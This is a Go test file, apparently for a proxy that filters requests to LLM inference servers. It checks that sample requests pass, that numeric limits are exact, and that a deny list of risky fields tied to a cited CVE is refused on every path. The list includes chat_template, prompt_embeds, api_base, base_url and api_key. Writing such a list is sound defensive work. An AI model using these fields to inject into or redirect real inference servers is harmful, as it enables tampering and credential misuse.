	{"openai", "/v1/moderations", `{"input":["a","b"]}`},
	{"openai", "/v1/completions", `{"model":"gpt-3.5-turbo-instruct","prompt":"Say this is a test","max_tokens":7,"temperature":0,"best_of":3,"n":2,"logprobs":5,"echo":true,"stop":"\n","suffix":"x","logit_bias":{"50256":-100},"stream":true,"stream_options":{"include_usage":true}}`},
	{"anthropic", "/v1/messages/count_tokens", `{"model":"claude-sonnet-4-5","system":"x","messages":[{"role":"user","content":"hi"}],"tools":[{"name":"f","input_schema":{"type":"object"}}],"thinking":{"type":"enabled","budget_tokens":16000},"tool_choice":{"type":"auto"}}`},
	{"vllm", "/v1/chat/completions", `{"model":"Qwen/Qwen3-8B","messages":[{"role":"user","content":"hi"}],"top_k":20,"min_p":0,"repetition_penalty":1.05,"chat_template_kwargs":{"enable_thinking":false},"stop_token_ids":[151645],"skip_special_tokens":true,"min_tokens":1,"add_generation_prompt":true,"max_tokens":8192,"temperature":0.7,"ignore_eos":false,"stream":true,"stream_options":{"include_usage":true,"continuous_usage_stats":true},"documents":[{"title":"a","text":"b"}],"cache_salt":"s"}`},
	{"vllm", "/v1/completions", `{"model":"m","prompt":[1,2,3],"top_k":-1,"truncate_prompt_tokens":-1,"allowed_token_ids":[1],"bad_words":["x"],"length_penalty":1.0,"include_stop_str_in_output":true}`},
	{"vllm", "/v1/embeddings", `{"model":"m","input":["a"],"truncate_prompt_tokens":8192,"add_special_tokens":true}`},
	{"vllm", "/tokenize", `{"model":"m","messages":[{"role":"user","content":"hi"}],"add_generation_prompt":true,"return_token_strs":true}`},
	{"vllm", "/v1/rerank", `{"model":"BAAI/bge-reranker-base","query":"What is the capital of France?","documents":["The capital of Brazil is Brasilia.","The capital of France is Paris."],"top_n":1}`},
	{"vllm", "/score", `{"model":"m","text_1":["a"],"text_2":["b"]}`},
	{"ollama", "/api/generate", `{"model":"llama3.2","prompt":"Why is the sky blue?","stream":false,"options":{"num_keep":5,"seed":42,"num_predict":100,"top_k":20,"top_p":0.9,"min_p":0.0,"typical_p":0.7,"repeat_last_n":33,"temperature":0.8,"repeat_penalty":1.2,"presence_penalty":1.5,"frequency_penalty":1.0,"penalize_newline":true,"stop":["\n","user:"],"num_ctx":1024}}`},
	{"ollama", "/api/generate", `{"model":"llama3.2","prompt":"","suffix":"","system":"","template":"","options":null,"context":[1,2,3],"keep_alive":"5m0s","raw":true,"think":false}`},
	{"ollama", "/api/generate", `{"model":"hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M"}`},
	{"ollama", "/api/generate", `{"model":"llama3.1:8b","prompt":"x","format":{"type":"object","properties":{"age":{"type":"integer"},"available":{"type":"boolean"}},"required":["age","available"]},"keep_alive":300,"think":"high"}`},
	{"ollama", "/api/chat", `{"model":"llama3.2","messages":[{"role":"user","content":"what is the weather in tokyo?"},{"role":"assistant","content":"","tool_calls":[{"function":{"name":"get_weather","arguments":{"city":"Tokyo"}}}]},{"role":"tool","content":"11 degrees celsius","tool_name":"get_weather"}],"tools":[{"type":"function","function":{"name":"get_weather","description":"Get the weather in a given city","parameters":{"type":"object","properties":{"city":{"type":"string","description":"The city to get the weather for"}},"required":["city"]}}}],"stream":true,"format":"json","keep_alive":"24h"}`},
	{"ollama", "/api/chat", `{"model":"llava","messages":[{"role":"user","content":"what is in this image?","images":["iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="]}]}`},
	{"ollama", "/api/chat", `{"model":"llama3.2","messages":[]}`},
	{"ollama", "/api/embed", `{"model":"all-minilm","input":["Why is the sky blue?","Why is the grass green?"],"truncate":true,"keep_alive":"1h30m","dimensions":0}`},
	{"ollama", "/api/embeddings", `{"model":"all-minilm","prompt":"Here is an article about llamas...","options":{"num_ctx":8192}}`},
	{"ollama", "/api/show", `{"model":"llava","system":"","template":"","verbose":false,"options":null,"name":""}`},
	{"llamacpp", "/completion", `{"prompt":"Building a website can be done in 10 simple steps:","n_predict":128,"temperature":0.8,"top_k":40,"top_p":0.95,"min_p":0.05,"n_keep":-1,"stream":true,"stop":["</s>"],"repeat_penalty":1.1,"repeat_last_n":64,"mirostat":0,"seed":-1,"cache_prompt":true,"id_slot":-1,"samplers":["top_k","top_p"],"dry_sequence_breakers":["\n",":"],"logit_bias":[[15043,1.0],["Hello",false]],"n_discard":0,"json_schema":{"type":"array","items":{"type":"string","pattern":"^[a-z]+$"},"minItems":1}}`},
	{"llamacpp", "/completion", `{"prompt":["a",[12,34,"b",56],{"prompt_string":"<__media__>","multimodal_data":["aGk="]}],"n_predict":-1}`},
	{"llamacpp", "/completion", `{"prompt":[12,34,56],"n_probs":10,"post_sampling_probs":true}`},
	{"llamacpp", "/completion", `{"prompt":[12,34,"b",56]}`},
	{"llamacpp", "/v1/chat/completions", `{"messages":[{"role":"user","content":"hi"}],"cache_prompt":true,"chat_template_kwargs":{"enable_thinking":false},"reasoning_format":"none","timings_per_token":true,"min_p":0.1,"stream":true}`},
	{"llamacpp", "/v1/chat/completions", `{"messages":[{"role":"user","content":"hi"}],"response_format":{"type":"json_object","schema":{"type":"object","properties":{"a":{"type":"string"}}}}}`},
	{"llamacpp", "/v1/chat/completions", `{"messages":[{"role":"user","content":"hi"}],"response_format":{"type":"json_schema","json_schema":{"name":"a","strict":true,"schema":{"type":"object"}}}}`},
	{"tgi", "/v1/chat/completions", `{"messages":[{"role":"user","content":"hi"}],"response_format":{"type":"json","value":{"properties":{"a":{"type":"string"}}}}}`},
	{"anthropic", "/v1/messages", `{"model":"m","max_tokens":9,"messages":[{"role":"assistant","content":[{"type":"web_fetch_tool_result","tool_use_id":"t","content":{"type":"web_fetch_result","url":"https://example.com","content":{"type":"document","title":"t","source":{"type":"text","media_type":"text/plain","data":"x"}}}},{"type":"web_fetch_tool_result","tool_use_id":"t","content":{"type":"web_fetch_tool_result_error","error_code":"url_not_allowed"}}]},{"role":"user","content":[{"type":"search_result","source":"https://example.com","title":"t","content":[{"type":"text","text":"x"}],"citations":{"enabled":true}}]}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch","max_uses":5,"allowed_domains":["example.com"]},{"type":"bash_20250124","name":"bash"}]}`},
	{"llamacpp", "/tokenize", `{"content":"Hello","add_special":true,"with_pieces":true}`},
	{"llamacpp", "/v1/embeddings", `{"input":[[1,2],[3]],"model":"m","dimensions":256,"encoding_format":"base64","embd_normalize":2}`},
	{"llamacpp", "/embedding", `{"content":"hi","embd_normalize":2}`},
	{"tgi", "/generate", `{"inputs":"What is Deep Learning?","parameters":{"max_new_tokens":20,"best_of":1,"decoder_input_details":false,"details":true,"do_sample":true,"repetition_penalty":1.03,"return_full_text":false,"seed":null,"stop":["photographer"],"temperature":0.5,"top_k":10,"top_n_tokens":5,"top_p":0.95,"truncate":null,"typical_p":0.95,"watermark":true,"grammar":{"type":"json","value":{"properties":{"location":{"type":"string"}}}}}}`},
	{"tgi", "/generate", `{"inputs":"![](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)What is this? See [a link](https://example.org) and ![alt](https://example.org/x.png)"}`},
	{"tgi", "/v1/chat/completions", `{"model":"tgi","messages":[{"role":"system","content":"x"},{"role":"user","content":[{"type":"text","text":"hi"},{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}}]}],"stream":true,"max_tokens":20,"seed":42,"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":{"a":{"type":"string","description":"see https://example.org"}}}}}]}`},
	{"mcp", "/mcp", `{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{"roots":{"listChanged":true},"sampling":{},"elicitation":{}},"clientInfo":{"name":"ExampleClient","title":"Example","version":"1.0.0"}}}`},
	{"mcp", "/mcp", `{"jsonrpc":"2.0","method":"notifications/initialized"}`},
	{"mcp", "/mcp", `{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":"123","reason":"x"}}`},
	{"mcp", "/mcp", `{"jsonrpc":"2.0","id":"a-1","method":"tools/call","params":{"name":"get_weather","arguments":{"location":"New York","Name":"any name inside"},"_meta":{"progressToken":1}}}`},
	{"mcp", "/mcp", `{"jsonrpc":"2.0","id":2,"method":"resources/read","params":{"uri":"file:///project/src/main.rs"}}`},
	{"mcp", "/mcp", `{"jsonrpc":"2.0","id":2,"method":"prompts/get","params":{"name":"code_review","arguments":{"code":"x"}}}`},
	{"mcp", "/mcp", `{"jsonrpc":"2.0","id":1,"result":{"roots":[{"uri":"file:///x"}]}}`},
	{"mcp", "/mcp", `{"jsonrpc":"2.0","id":1,"error":{"code":-32601,"message":"Method not found","data":null}}`},
}

func TestHonestRequestsOfServersPass(t *testing.T) {
	for _, c := range honest {
		w, reached := send(t, everything(t)[c.preset], request{method: "POST", path: c.path, body: c.body, header: map[string]string{"Accept": "application/json, text/event-stream"}})
		if reached != "POST "+c.path+" "+c.body {
			t.Errorf("%s %s: %d %s\n%s", c.preset, c.path, w.Code, w.Body, c.body)
		}
	}
}

// The bound itself passes and one more does not.
func TestTheBoundsOfServersAreNotOffByOne(t *testing.T) {
	ints := func(n int) string { return "[" + strings.TrimSuffix(strings.Repeat("1,", n), ",") + "]" }
	texts := func(n int) string { return "[" + strings.TrimSuffix(strings.Repeat(`"a",`, n), ",") + "]" }
	for _, c := range []struct{ preset, path, body, last, past string }{
		{"openai", "/v1/embeddings", `{"model":"m","input":@}`, texts(2048), texts(2049)},
		{"openai", "/v1/embeddings", `{"model":"m","input":@}`, "[" + strings.TrimSuffix(strings.Repeat(ints(146)+",", 2048), ",") + "]", "[" + strings.TrimSuffix(strings.Repeat(ints(160)+",", 2048), ",") + "]"},
		{"openai", "/v1/embeddings", `{"model":"m","input":"x","dimensions":@}`, "8192", "8193"},
		{"openai", "/v1/completions", `{"model":"m","prompt":"x","best_of":@}`, "20", "21"},
		{"openai", "/v1/completions", `{"model":"m","prompt":"x","logprobs":@}`, "5", "6"},
		{"openai", "/v1/completions", `{"model":"m","prompt":@}`, ints(131072), ints(131073)},
		{"openai", "/v1/moderations", `{"input":@}`, texts(2048), texts(2049)},
		{"openai", "/v1/responses", `{"model":"m","input":"x","top_logprobs":@}`, "20", "21"},
		{"openai", "/v1/responses", `{"model":"m","input":"x","max_output_tokens":@}`, "131072", "131073"},
		{"ollama", "/api/generate", `{"model":"m","options":{"num_ctx":@}}`, "131072", "131073"},
		{"ollama", "/api/generate", `{"model":"m","options":{"num_predict":@}}`, "-2", "-3"},
		{"ollama", "/api/generate", `{"model":"m","keep_alive":@}`, "86400", "86401"},
		{"ollama", "/api/generate", `{"model":"m","keep_alive":"@"}`, "24h", "25h"},
		{"ollama", "/api/generate", `{"model":"m","keep_alive":"@"}`, "999m", "1000m"},
		{"ollama", "/api/generate", `{"model":"m","keep_alive":"@"}`, "1.5s", "0.999999999s"},
		{"ollama", "/api/generate", `{"model":"m","keep_alive":"@"}`, "0h0m1s", "0h0m0.9s"},
		{"ollama", "/api/generate", `{"model":"m","context":@}`, ints(131072), ints(131073)},
		{"ollama", "/api/embed", `{"model":"m","input":@}`, texts(2048), texts(2049)},
		{"ollama", "/api/chat", `{"model":"m","top_logprobs":@}`, "20", "21"},
		{"vllm", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":"x"}],"n":@}`, "128", "129"},
		{"vllm", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":"x"}],"repetition_penalty":@}`, "0.01", "0"},
		{"vllm", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":"x"}],"stop_token_ids":@}`, ints(64), ints(65)},
		{"vllm", "/score", `{"model":"m","text_1":"x","text_2":@}`, texts(1024), texts(1025)},
		{"vllm", "/rerank", `{"query":"x","documents":@}`, texts(1024), texts(1025)},
		{"llamacpp", "/completion", `{"prompt":"x","n_discard":@}`, "0", "-1"},
		{"llamacpp", "/completion", `{"prompt":"x","n_probs":@}`, "20", "21"},
		{"llamacpp", "/completion", `{"prompt":@}`, texts(256), texts(257)},
		{"llamacpp", "/v1/chat/completions", `{"messages":[{"role":"user","content":"x"}],"n":@}`, "16", "17"},
		{"tgi", "/generate", `{"inputs":"x","parameters":{"best_of":@}}`, "4", "5"},
		{"tgi", "/generate", `{"inputs":"x","parameters":{"max_new_tokens":@}}`, "131072", "131073"},
		{"mcp", "/mcp", `{"jsonrpc":"2.0","id":@,"method":"ping"}`, "9007199254740991", "9007199254740992"},
		{"mcp", "/mcp", `{"jsonrpc":"2.0","id":"@","method":"ping"}`, strings.Repeat("a", 256), strings.Repeat("a", 257)},
	} {
		for value, want := range map[string]bool{c.last: true, c.past: false} {
			q := request{method: "POST", path: c.path, body: strings.Replace(c.body, "@", value, 1), header: map[string]string{"Accept": "*/*"}}
			if w, reached := send(t, everything(t)[c.preset], q); (reached != "") != want {
				t.Errorf("%s %s %.40s: %d %s, want %v", c.preset, strings.Replace(c.body, "@", "...", 1), value, w.Code, w.Body, want)
			}
		}
	}
}

// CVE-2025-62426 came back in a second endpoint, so nothing here is left to one schema: what is refused on purpose is refused
// wherever a server could read it.
func TestWhatIsRefusedOnPurposeIsRefusedOnEveryPath(t *testing.T) {
	tried := 0
	for name, p := range everything(t) {
		for _, rt := range p.Routes {
			_, path, _ := strings.Cut(rt.Pattern, " ")
			sample, ok := samples[strings.TrimSuffix(path, "{$}")]
			if rt.Body == nil || !ok || rt.Body.Check([]byte(sample)) != nil {
				continue
			}
			for _, member := range []string{
				"chat_template", "guided_json", "structured_outputs", "prompt_embeds", "mm_processor_kwargs", "kv_transfer_params", "logits_processors",
				"grammar", "chat_parser", "api_base", "base_url", "api_key", "mcp_servers", "lora", "priority",
			} {
				tried++
				if rt.Body.Check([]byte(strings.TrimSuffix(sample, "}")+`,"`+member+`":{}}`)) == nil {
					t.Errorf("%s %s: %s passes", name, rt.Pattern, member)
				}
			}
		}
	}
	if tried < 500 {
		t.Errorf("only %d tried", tried)
	}
}
